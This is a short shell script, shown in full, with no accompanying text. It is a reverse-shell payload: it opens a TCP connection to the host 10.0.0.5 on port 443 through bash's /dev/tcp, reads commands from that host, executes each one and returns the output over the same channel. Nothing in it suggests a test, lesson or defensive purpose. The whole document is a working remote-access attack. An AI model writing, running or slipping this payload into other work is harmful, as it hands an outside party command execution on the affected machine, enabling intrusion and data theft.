#!/bin/sh
exec 5<>/dev/tcp/10.0.0.5/443; cat <&5 | while read line; do $line 2>&5 >&5; done
